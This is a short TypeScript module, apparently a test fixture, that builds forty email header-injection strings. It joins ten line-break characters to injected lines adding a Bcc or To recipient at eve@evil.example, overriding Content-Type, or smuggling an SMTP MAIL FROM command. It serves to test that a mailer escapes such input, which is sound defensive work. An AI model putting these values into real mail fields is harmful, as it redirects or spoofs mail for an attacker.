const BREAKS = ["\r\n", "\n", "\r", "\0", "\u0085", "\u2028", "\u2029", "\v", "\f", "\u202e"];
const LINES = ["Bcc: eve@evil.example", "Content-Type: text/html", "\r\n.\r\nMAIL FROM:<eve>", "To: eve@evil.example"];

/** Forty texts that would be a header or another recipient, were they written into a mail as they are (S13). */
export const INJECTIONS = BREAKS.flatMap((end) => LINES.map((line) => `Hello${end}${line}`));
